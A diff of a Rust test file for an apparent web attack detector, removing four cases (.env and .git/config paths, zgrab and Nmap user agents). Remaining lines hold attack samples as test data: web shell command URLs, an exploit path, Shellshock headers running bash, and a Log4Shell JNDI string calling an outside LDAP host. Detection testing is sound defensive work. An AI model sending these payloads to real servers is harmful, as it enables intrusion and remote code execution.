@@ -95,8 +95,6 @@ fn attacks_in_addresses_are_named() {
         (WebShell, "/up/x.php?cmd=whoami"),
         (WebShell, "/up/x.aspx?c=net+user"),
         (ExploitPath, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
-        (ExploitPath, "/.env"),
-        (ExploitPath, "/.git/config"),
         (ExploitPath, "/wp-config.php.bak"),
         (ExploitPath, "/GponForm/diag_Form?images/"),
         (ExploitPath, "/actuator/env"),
@@ -115,8 +113,6 @@ fn attacks_in_headers_and_bodies_are_named() {
     let cases: Vec<(SignKind, Vec<u8>)> = vec![
         (ScanTool, with_header("User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)")),
         (ScanTool, with_header("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")),
-        (Discovery, with_header("User-Agent: Mozilla/5.0 zgrab/0.x")),
-        (Discovery, with_header("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)")),
         (Shellshock, with_header("User-Agent: () { :; }; /bin/bash -c 'id'")),
         (Shellshock, with_header("Cookie: a=() { ignored; }; echo")),
         (JndiLookup, with_header("X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}")),
